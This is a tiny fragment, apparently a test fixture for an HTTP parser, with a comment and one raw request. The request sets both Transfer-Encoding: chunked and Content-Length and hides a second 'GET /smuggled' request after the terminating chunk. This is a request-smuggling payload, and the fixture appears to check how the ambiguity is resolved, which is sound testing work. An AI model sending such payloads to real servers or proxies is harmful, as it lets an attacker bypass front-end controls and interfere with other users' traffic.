# Content-Length with Transfer-Encoding: chunked wins; the smuggled request is seen.
>>> raw
POST / HTTP/1.1\r\nHost: target\r\nTransfer-Encoding: chunked\r\nContent-Length: 50\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: target\r\n\r\n
